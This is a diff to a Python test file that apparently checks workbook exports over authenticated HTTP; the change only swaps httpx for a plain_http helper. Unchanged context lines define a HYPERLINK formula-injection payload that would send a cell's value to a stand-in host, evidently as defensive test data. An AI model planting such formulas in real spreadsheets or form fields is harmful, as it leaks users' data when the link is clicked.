@@ -15,6 +15,8 @@ import zipfile
 import httpx
 from openpyxl import load_workbook
 
+from tests import plain_http
+
 FORMULA = '=HYPERLINK("http://x?x="&G2,"Xem hồ sơ")'
 UPDATE_WORKER = """mutation($input: UpdateWorkerInput!) {
   updateWorker(input: $input) { worker { fullName } errors { field code } } }"""
@@ -28,7 +30,7 @@ REPORT_EMPLOYERS = (
 
 def _get(live_server, office: str, path: str, purpose: str) -> httpx.Response:
     headers = {"Authorization": f"Bearer {live_server.tokens[office]}", "X-Purpose": purpose}
-    response = httpx.get(f"{live_server.url}{path}", headers=headers, timeout=120)
+    response = plain_http.get(f"{live_server.url}{path}", headers=headers, timeout=120)
     assert response.status_code == 200, response.text
     return response
 
